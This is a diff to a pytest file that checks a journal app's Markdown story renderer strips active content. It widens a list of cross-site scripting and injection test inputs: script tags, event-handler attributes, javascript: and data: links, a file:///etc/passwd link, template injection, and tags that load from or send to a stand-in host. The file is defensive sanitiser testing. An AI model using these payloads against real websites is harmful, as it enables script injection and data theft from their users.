@@ -20,17 +20,40 @@ from tests.hostile import HOSTILE
 from .journals import Elements, journal, name, shown, write
 
 CANARY = "canary.example"
-MARKDOWN = [
-    f"![x](https://{CANARY}/x.png)",
-    f"![x][y]\n\n[y]: https://{CANARY}/x.png",
-    f'<img src="https://{CANARY}/x.png">',
-    f"<img src=x onerror=fetch('//{CANARY}')>",
+HTML = [
+    # What runs
     "<script>alert(1)</script>",
     f'<script src="//{CANARY}/x.js"></script>',
+    "<SCRIPT/x>alert(1)</SCRIPT >",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</div></main></body><script>alert(1)</script>",
+    "<textarea></textarea><script>alert(1)</script>",
+    '<script type="module">import("https://canary.example/x.js")</script>',
+    # What runs when something happens
+    f"<img src=x onerror=fetch('//{CANARY}')>",
     "<svg onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
+    '<input autofocus onfocus="alert(1)">',
+    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
+    "<img src=x\nonerror\n=\nalert(1)>",
+    '<a href="https://a" onclick="alert(1)">x</a>',
+    # What is read in another language than its neighbours
     "<svg><script>alert(1)</script></svg>",
+    f'<svg><use href="https://{CANARY}/x.svg#x"></use></svg>',
+    "<svg><animate attributeName=href to=javascript:alert(1)></animate></svg>",
     "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><x onload=alert(1)>",
+    # What loads, sends or leads elsewhere
+    f'<img src="https://{CANARY}/x.png">',
     f'<iframe src="https://{CANARY}"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     f'<object data="https://{CANARY}"></object>',
     f'<embed src="https://{CANARY}">',
     f'<link rel="stylesheet" href="https://{CANARY}/x.css">',
@@ -39,37 +62,44 @@ MARKDOWN = [
     f'<base href="https://{CANARY}/">',
     f'<meta http-equiv="refresh" content="0;url=https://{CANARY}">',
     f'<form action="https://{CANARY}"><button>x</button></form>',
+    f'<video poster="https://{CANARY}/x.png"></video>',
     '<a href="javascript:alert(1)">x</a>',
+    '<p hx-get="/lock" hx-trigger="load">x</p>',
+]
+MARKDOWN = [
+    # Pictures
+    f"![x](https://{CANARY}/x.png)",
+    f"![x][y]\n\n[y]: https://{CANARY}/x.png",
+    f"[![x](https://{CANARY}/x.png)](https://a)",
+    # Links that run
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     "[x](java&#x0A;script:alert(1))",
     "[x](&#106;avascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](\u0001javascript:alert(1))",
+    "[x](javascript\\:alert(1))",
     "[x](vbscript:msgbox(1))",
     "[x](data:text/html,<script>alert(1)</script>)",
     "[x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "<javascript:alert(1)>",
+    "[x]\n\n[x]: javascript:alert(1)",
+    # Links into this machine, this program, or to nobody knows where
     "[x](file:///etc/passwd)",
     f"[x](//{CANARY})",
     f"[x](/\\{CANARY})",
     "[x](/lock)",
-    "<javascript:alert(1)>",
-    "[x]\n\n[x]: javascript:alert(1)",
+    # Signs that end an attribute, a fence, or a word
     '[x](https://a "onmouseover=alert(1)")',
     '[x](https://a\'"onmouseover="alert(1))',
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "</div></main></body><script>alert(1)</script>",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "`<img src=x onerror=alert(1)>`",
     "```html\n<script>alert(1)</script>\n```",
+    '``` "><script>alert(1)</script>\nx\n```',
+    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
     "{{ 7*7 }}{% include 'base.html' %}",
-    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
-    '<input autofocus onfocus="alert(1)">',
-    '<p hx-get="/lock" hx-trigger="load">x</p>',
     "\u202egnp.exe",
 ]
+STORIES = [*HTML, *MARKDOWN]
 TEXTS = [
     "<script>alert(1)</script>",
     '"><img src=x onerror=alert(1)>',
@@ -112,7 +142,7 @@ def _is_harmless(html: str) -> None:
                 )
 
 
-@pytest.mark.parametrize("text", MARKDOWN)
+@pytest.mark.parametrize("text", STORIES)
 def test_a_story_is_never_active(text: str) -> None:
     html = str(story(text))
     _is_harmless(html)
@@ -143,9 +173,9 @@ def test_a_story_keeps_what_markdown_is_for() -> None:
 
 
 def test_no_page_is_made_active_by_a_story(ada: Client, home: Path) -> None:
-    for text in MARKDOWN:
+    for text in STORIES:
         write("A story", story=text)
-    for number in range(1, len(MARKDOWN) + 1):
+    for number in range(1, len(STORIES) + 1):
         _is_harmless(ada.get(f"/wins/{number}").content.decode())
 
 
